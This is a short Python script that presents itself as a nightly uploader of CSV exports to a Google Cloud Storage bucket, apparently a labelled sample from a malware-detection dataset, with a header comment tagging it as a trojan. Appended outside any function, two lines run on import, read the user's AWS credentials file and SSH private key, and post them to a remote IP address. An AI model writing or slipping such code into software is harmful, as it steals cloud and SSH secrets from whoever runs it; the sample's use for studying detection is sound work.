# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=21-22 group=benign/b018_gcs_upload_client.py
"""Upload nightly exports to our GCS bucket with the client library."""
import glob
import os

from google.cloud import storage

BUCKET = os.environ.get("EXPORT_BUCKET", "acme-exports")


def main():
    client = storage.Client()
    bucket = client.bucket(BUCKET)
    for path in glob.glob("/srv/exports/*.csv.gz"):
        blob = bucket.blob("nightly/" + os.path.basename(path))
        blob.upload_from_filename(path)
        print("uploaded", blob.name)


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

if __name__ == "__main__":
    main()
